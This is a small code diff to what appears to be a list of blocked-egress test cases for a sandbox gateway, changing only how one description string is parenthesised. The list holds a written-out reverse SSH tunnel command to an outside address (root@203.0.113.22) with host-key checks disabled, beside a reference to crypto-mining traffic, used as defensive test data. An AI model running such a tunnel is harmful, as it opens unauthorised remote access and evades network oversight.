@@ -46,9 +46,9 @@ STEPS = [
      "the gateway reads the first line, sees mining.subscribe, and refuses"),
     ("open a reverse SSH tunnel", ("ssh -o StrictHostKeyChecking=no -o BatchMode=yes "
      "-o ConnectTimeout=3 -N -R 2222:localhost:22 root@203.0.113.22"),
-     "an ssh client (known by its binary, whatever its name) asked to forward a port is "
-     "stopped as it starts; had it connected, SSH to an address not on the allow list is "
-     "reset before anything is dialled"),
+     ("an ssh client (known by its binary, whatever its name) asked to forward a port is "
+      "stopped as it starts; had it connected, SSH to an address not on the allow list is "
+      "reset before anything is dialled")),
 ]
 
 
